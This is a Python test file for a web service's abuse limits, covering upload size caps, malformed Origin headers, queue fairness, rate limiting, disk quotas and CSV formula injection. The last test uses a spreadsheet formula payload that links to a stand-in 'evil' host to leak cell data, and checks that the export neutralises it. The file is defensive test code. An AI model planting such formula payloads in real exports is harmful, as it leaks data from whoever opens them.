"""What one visitor can do to the studio and to others.  Each test names the wrong implementation it catches."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from kit.webbing import OpenStudio, Visit, jobs_of
from moireid.badge import Badge
from moireid.fabrication.event import _summary
from moireid.fabrication.mount_parts import Parts
from moireid.fabrication.process_figures import MountFigures
from moireid_studio.http.server import Rates
from moireid_studio.problems import Refusal
from moireid_studio.settings import Limits


@pytest.fixture(scope="module")
def visit(open_studio: OpenStudio, ada: Badge) -> Visit:
    made = open_studio(ada, work=False, form_bytes=1 << 16)
    (made.folder / "jobs").mkdir(parents=True)
    return made


def test_a_form_is_read_no_further_than_its_limit(visit: Visit) -> None:
    """Catches: a form that is spooled to the disk before anybody asks who sends it, as much as is sent."""
    answer = visit.ask("POST", "/login", None, files={"x": ("y", bytes(1 << 20))})
    assert answer.status_code == 413


def test_what_is_no_film_is_read_no_further_than_its_limit(visit: Visit) -> None:
    """Catches: what follows a form's end, read as long as somebody sends it."""
    film = b"\0\0\0\x18ftypmp42" + bytes(1 << 18)
    body = b'--b\r\nContent-Disposition: form-data; name="video"\r\n\r\n' + film + b"\r\n--b--\r\n" + bytes(1 << 17)
    sent = {"Content-Type": "multipart/form-data; boundary=b"}
    answer = visit.ask("POST", "/api/verify", "verifier", content=body, headers=sent)
    assert answer.status_code == 413 and "64 kB" in answer.json()["text"]
    assert visit.left() == []


@pytest.mark.parametrize("headers", [{"Origin": "http://["}, {"Origin": "//["}])
def test_an_address_that_is_none_is_refused(visit: Visit, headers: dict[str, str]) -> None:
    """Catches: a traceback, and an answer without its headers, where an address cannot be taken apart."""
    answer = visit.ask("POST", "/logout", None, headers=headers)
    assert answer.status_code == 403 and "content-security-policy" in answer.headers


def test_one_owner_leaves_places_to_others(tmp_path: Path) -> None:
    """Catches: a queue that one visitor fills with uploads that never end."""
    held = jobs_of(tmp_path / "jobs", Limits(workers=2, waiting=10, uploads=20))
    for _ in range(5):
        held.admit("verify", "greedy")
    with pytest.raises(Refusal):
        held.admit("verify", "greedy")
    assert [held.admit("verify", "another").owner for _ in range(3)] == ["another"] * 3


def test_a_token_that_sends_too_many_is_told_when_to_go_on(tmp_path: Path) -> None:
    """Catches: a count of all tokens together, one that never ends, and none at all."""
    rates = Rates(Limits(uploads_a_minute=3, requests_a_minute=5))
    for _ in range(3):
        rates.upload("verifier", "verifier")
    with pytest.raises(Refusal) as refused:
        rates.upload("verifier", "verifier")
    assert refused.value.status == 429 and 0 < int(refused.value.headers["Retry-After"]) <= 60
    for _ in range(6):
        rates.upload("issuer", "issuer")
    rates.request("verifier")


def test_films_take_no_more_of_the_disk_than_their_share(tmp_path: Path) -> None:
    """Catches: a quota that one visitor may use up, or that counts no film on its way."""
    jobs = jobs_of(tmp_path / "jobs", Limits(disk_bytes=1000))
    one, another = jobs.admit("verify", "one"), jobs.admit("verify", "another")
    jobs.stored(one, 500)
    with pytest.raises(Refusal, match="full"):
        jobs.stored(one, 501)
    with pytest.raises(Refusal, match="full"):
        jobs.stored(another, 500)
    jobs.remove(one)
    jobs.stored(another, 500)


def test_a_name_is_no_formula(ada: Badge) -> None:
    """Catches: a list of people that a table's program works out."""
    named = replace(ada, name='=HYPERLINK("http://evil/?"&A1,"x")')
    rows = list(csv.DictReader(io.StringIO(_summary(["001-x"], [named], Parts("none", None, MountFigures())))))
    assert rows[0]["name"] == "'" + named.name
